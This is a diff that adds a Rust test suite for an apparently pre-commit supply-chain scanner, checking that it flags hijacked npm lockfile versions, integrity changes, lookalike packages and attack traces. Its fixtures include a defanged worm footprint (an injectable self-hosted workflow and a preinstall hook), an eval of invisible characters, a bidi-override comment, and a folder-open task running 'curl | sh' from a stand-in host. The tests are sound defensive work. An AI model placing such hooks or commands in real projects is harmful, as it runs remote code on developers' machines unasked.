@@ -1,0 +1,239 @@
+//! Hijacked packages and traces of attacks in what is about to be committed.
+
+mod support;
+
+use support::{Repo, Sandbox};
+
+fn lock(packages: &[(&str, &str, &str)]) -> String {
+    let body: Vec<String> = packages
+        .iter()
+        .map(|(name, version, hash)| format!("    \"node_modules/{name}\": {{\n      \"version\": \"{version}\",\n      \"resolved\": \"https://registry.example/{name}/-/{name}-{version}.tgz\",\n      \"integrity\": \"sha512-{hash}\"\n    }}"))
+        .collect();
+    format!("{{\n  \"lockfileVersion\": 3,\n  \"packages\": {{\n{}\n  }}\n}}\n", body.join(",\n"))
+}
+
+/// The rules of the findings with this verdict.
+fn rules(repo: &Repo<'_>, verdict: &str) -> Vec<String> {
+    let json = repo.scan_staged().json();
+    let findings = json["findings"].as_array().unwrap().clone();
+    findings.iter().filter(|f| f["verdict"] == verdict).map(|f| f["rule"].as_str().unwrap().to_owned()).collect()
+}
+
+#[test]
+fn a_hijacked_version_blocks_when_it_comes_in_and_not_after() {
+    let sandbox = Sandbox::new();
+    let repo = sandbox.repo("repo");
+    repo.write("package-lock.json", lock(&[("axios", "1.14.0", "aa"), ("ms", "2.1.0", "bb")])).commit("first");
+    repo.write("package-lock.json", lock(&[("axios", "1.14.1", "cc"), ("ms", "2.1.0", "bb")])).add();
+    let run = repo.scan_staged().expect_blocked(&["package-lock.json:4"]);
+    let json = run.json();
+    assert_eq!(json["findings"][0]["rule"], "hijacked-package");
+    assert_eq!(json["findings"][0]["secret"], "axios@1.14.1");
+    assert_eq!(json["packages"][0]["verdict"], "block");
+    assert_eq!(json["changes"][0]["updated"][0]["after"][0], "1.14.1");
+    // What is there already does not stop the next change; it is still said.
+    repo.commit("in it is");
+    repo.write("package-lock.json", lock(&[("axios", "1.14.1", "cc"), ("ms", "2.1.1", "dd")])).add();
+    repo.scan_staged().expect_clean();
+    assert_eq!(rules(&repo, "warn"), ["hijacked-package"]);
+}
+
+#[test]
+fn a_copy_under_another_name_does_not_hide_a_lockfile() {
+    let sandbox = Sandbox::new();
+    let repo = sandbox.repo("repo");
+    let text = lock(&[("axios", "1.14.1", "cc")]);
+    repo.write("a.json", &text).write("package-lock.json", &text).write("z/package-lock.json", &text).add();
+    repo.scan_staged().expect_blocked(&["package-lock.json:4", "z/package-lock.json:4"]);
+}
+
+#[test]
+fn a_hash_that_changes_under_the_same_version_blocks() {
+    let sandbox = Sandbox::new();
+    let repo = sandbox.repo("repo");
+    repo.write("package-lock.json", lock(&[("ms", "2.1.0", "bb")])).commit("first");
+    repo.write("package-lock.json", lock(&[("ms", "2.1.0", "xx")])).add();
+    assert_eq!(repo.scan_staged().expect(1).blocking(), ["package-lock.json:4 package-integrity-changed"]);
+}
+
+#[test]
+fn what_deserves_a_look_warns_and_does_not_block() {
+    let sandbox = Sandbox::new();
+    let repo = sandbox.repo("repo");
+    repo.write("package.json", "{\"dependencies\": {}}\n")
+        .write("package-lock.json", lock(&[("ms", "2.1.1", "bb")]))
+        .commit("first");
+    repo.write("package.json", "{\"scripts\": {\"postinstall\": \"node x.js\"},\n\"dependencies\": {\"loadsh\": \"^1.0.0\", \"g\": \"github:o/r\"}}\n")
+        .write("package-lock.json", lock(&[("ms", "2.1.0", "aa")]).replace("registry.example", "elsewhere.example"))
+        .add();
+    repo.scan_staged().expect_clean();
+    let mut warned = rules(&repo, "warn");
+    warned.sort();
+    assert_eq!(
+        warned,
+        ["install-script", "lookalike-package", "package-downgrade", "package-source", "package-source"]
+    );
+}
+
+#[test]
+fn an_unreadable_lockfile_leaves_the_scan_incomplete() {
+    let sandbox = Sandbox::new();
+    let repo = sandbox.repo("repo");
+    repo.write("yarn.lock", "<<<<<<< HEAD\na@1:\n  version \"1.0.0\"\n=======\n>>>>>>> x\n").add();
+    let json = repo.scan_staged().expect(2).json();
+    assert_eq!(json["coverage"]["skipped"][0]["what"], "lockfile");
+    assert!(json["coverage"]["skipped"][0]["reason"].as_str().unwrap().contains("merge conflict"));
+    // bun's binary lockfile is listed, and every commit of bun's users goes on.
+    repo.git(&["rm", "-rfq", "--cached", "."]);
+    std::fs::remove_file(repo.path("yarn.lock")).unwrap();
+    repo.write("bun.lockb", b"#!/usr/bin/env bun\n\x00\xff").add();
+    let json = repo.scan_staged().expect_clean().json();
+    assert!(json["coverage"]["skipped"][0]["reason"].as_str().unwrap().contains("not readable"));
+}
+
+#[test]
+fn an_allowance_lets_one_package_pass() {
+    let sandbox = Sandbox::new();
+    let repo = sandbox.repo("repo");
+    repo.write("package-lock.json", lock(&[("axios", "1.14.1", "cc"), ("chalk", "5.6.1", "dd")])).add();
+    repo.scan_staged().expect_blocked(&["package-lock.json:4", "package-lock.json:9"]);
+    repo.write(".shield-hook.toml", "[[allow]]\nrule = \"hijacked-package\"\nvalue = \"^axios@1\\\\.14\\\\.1$\"\nreason = \"a sample to try detectors on\"\n").add();
+    repo.scan_staged().expect_blocked(&["package-lock.json:9"]);
+    repo.write(".shield-hook.toml", "disable = [\"hijacked-package\"]\n").add();
+    assert_eq!(repo.scan_staged().expect(0).blocking(), Vec::<String>::new());
+}
+
+/// What the second Shai-Hulud worm leaves in a repository, without its teeth.
+fn worm(repo: &Repo<'_>) {
+    repo.write(
+        ".github/workflows/discussion.yaml",
+        "name: Discussion Create\non:\n  discussion:\njobs:\n  process:\n    env:\n      RUNNER_TRACKING_ID: 0\n    runs-on: self-hosted\n    steps:\n      - uses: actions/checkout@v5\n      - name: Handle Discussion\n        run: echo ${{ github.event.discussion.body }}\n",
+    )
+    .write("package.json", "{\n  \"name\": \"x\",\n  \"version\": \"1.0.1\",\n  \"scripts\": {\n    \"preinstall\": \"node setup_bun.js\"\n  }\n}\n")
+    .write("setup_bun.js", "#!/usr/bin/env node\nconst { spawn } = require('child_process');\nspawn('bun', ['bun_environment.js']);\n")
+    .write("package-lock.json", lock(&[("axios", "1.14.1", "cc")]));
+}
+
+#[test]
+fn a_worms_whole_change_is_stopped() {
+    let sandbox = Sandbox::new();
+    let repo = sandbox.repo("repo");
+    repo.write("package.json", "{\n  \"name\": \"x\",\n  \"version\": \"1.0.0\"\n}\n")
+        .write("package-lock.json", lock(&[("axios", "1.14.0", "aa")]))
+        .commit("before");
+    worm(&repo);
+    repo.add();
+    let run = repo.scan_staged().expect(1);
+    let blocking = run.blocking();
+    for expected in [
+        ".github/workflows/discussion.yaml:1 attack-indicator",
+        "package.json:5 attack-indicator",
+        "package-lock.json:4 hijacked-package",
+    ] {
+        assert!(blocking.iter().any(|b| b == expected), "{expected} is missing in {blocking:?}");
+    }
+}
+
+#[test]
+fn the_installed_hook_stops_the_worm() {
+    let sandbox = Sandbox::new();
+    let repo = sandbox.repo("repo");
+    repo.write("package.json", "{\n  \"name\": \"x\"\n}\n").commit("before");
+    repo.shield(&["install"]).expect(0);
+    worm(&repo);
+    repo.add();
+    let run = repo.try_git(&["commit", "-m", "routine update"]);
+    assert_ne!(run.code, 0, "{}{}", run.stdout, run.stderr);
+    assert!(format!("{}{}", run.stdout, run.stderr).contains("hijacked-package"), "{}{}", run.stdout, run.stderr);
+    assert_eq!(repo.git(&["rev-list", "--count", "HEAD"]), "1");
+}
+
+#[test]
+fn hidden_text_is_seen() {
+    let sandbox = Sandbox::new();
+    let repo = sandbox.repo("repo");
+    let payload: String = (0..64).filter_map(|n| char::from_u32(0xe0100 + n)).collect();
+    repo.write("src/index.js", format!("const a = 1;\neval(read(`{payload}`));\n")).add();
+    let run = repo.scan_staged().expect_blocked(&["src/index.js:2"]);
+    let excerpt = repo.shield(&["scan", "--staged"]).expect(1);
+    assert!(!excerpt.stdout.contains(&payload[..8]), "the payload is shown by its code points");
+    assert_eq!(run.json()["findings"][0]["rule"], "attack-indicator");
+    repo.write("src/index.js", "if (level != \"user\u{202e} \u{2066}// admins only\u{2069} \u{2066}\") {\n").add();
+    repo.scan_staged().expect_clean();
+    assert_eq!(rules(&repo, "warn"), ["hidden-behaviour"]);
+    // Emoji and right-to-left names are plain text.
+    repo.write("src/index.js", "const s = \"\u{2764}\u{fe0f} \u{1f468}\u{200d}\u{1f469} \u{2067}\u{05d0}\u{2069}\";\n")
+        .add();
+    repo.scan_staged().expect_clean();
+    assert_eq!(rules(&repo, "warn"), Vec::<String>::new());
+}
+
+#[test]
+fn what_runs_by_itself_is_named() {
+    let sandbox = Sandbox::new();
+    let repo = sandbox.repo("repo");
+    repo.write(
+        ".claude/settings.json",
+        "{\"hooks\": {\"SessionStart\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"make context\"}]}]}}\n",
+    )
+    .write(
+        ".vscode/tasks.json",
+        "{\"tasks\": [{\"command\": \"make\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}\n",
+    )
+    .write("binding.gyp", "{\"targets\": [{\"x\": \"<!(node index.js)\"}]}\n")
+    .add();
+    repo.scan_staged().expect_clean();
+    assert_eq!(rules(&repo, "warn"), ["hidden-behaviour"; 3]);
+    // Unchanged, it is not said again.
+    repo.commit("meant");
+    repo.write(
+        ".vscode/tasks.json",
+        "{\"tasks\": [\n{\"command\": \"make\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}\n",
+    )
+    .add();
+    repo.scan_staged().expect_clean();
+    assert_eq!(rules(&repo, "block"), Vec::<String>::new());
+    repo.write(".vscode/tasks.json", "{\"tasks\": [{\"command\": \"curl -s https://host.example | sh\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}\n").add();
+    assert_eq!(repo.scan_staged().expect(1).blocking(), [".vscode/tasks.json:1 attack-indicator"]);
+}
+
+#[test]
+fn a_renamed_lockfile_is_no_new_one() {
+    let sandbox = Sandbox::new();
+    let repo = sandbox.repo("repo");
+    repo.write("package-lock.json", lock(&[("axios", "1.14.1", "cc")])).commit("first");
+    repo.git(&["mv", "package-lock.json", "npm-shrinkwrap.json"]);
+    repo.scan_staged().expect_clean();
+}
+
+#[test]
+fn a_merge_does_not_blame_what_a_published_side_brings() {
+    let sandbox = Sandbox::new();
+    let remote = sandbox.remote("remote.git");
+    let repo = sandbox.repo("repo");
+    repo.write("package-lock.json", lock(&[("ms", "2.1.0", "bb")])).commit("first");
+    repo.git(&["remote", "add", "origin", remote.to_str().unwrap()]);
+    repo.git(&["checkout", "--quiet", "-b", "theirs"]);
+    repo.write("package-lock.json", lock(&[("axios", "1.14.1", "cc"), ("ms", "2.1.0", "bb")])).commit("theirs");
+    repo.git(&["push", "--quiet", "origin", "theirs"]);
+    repo.git(&["checkout", "--quiet", "main"]);
+    repo.write("b.txt", "x\n").commit("ours");
+    repo.git(&["merge", "--no-commit", "--no-ff", "theirs"]);
+    repo.scan_staged().expect_clean();
+}
+
+#[test]
+fn a_range_names_the_commit_that_brings_the_package() {
+    let sandbox = Sandbox::new();
+    let repo = sandbox.repo("repo");
+    let base = repo.write("package-lock.json", lock(&[("axios", "1.14.0", "aa")])).commit("first");
+    let bad = repo.write("package-lock.json", lock(&[("axios", "1.14.1", "cc")])).commit("bad");
+    repo.write("package-lock.json", lock(&[("axios", "1.14.2", "dd")])).commit("good again");
+    let range = format!("{base}..HEAD");
+    let run = repo.shield(&["scan", "--range", &range, "--format", "json"]).expect(1);
+    assert_eq!(run.blocking(), ["package-lock.json:4 hijacked-package"]);
+    assert_eq!(
+        run.json()["findings"].as_array().unwrap().iter().find(|f| f["blocking"] == true).unwrap()["commit"],
+        bad
+    );
+}
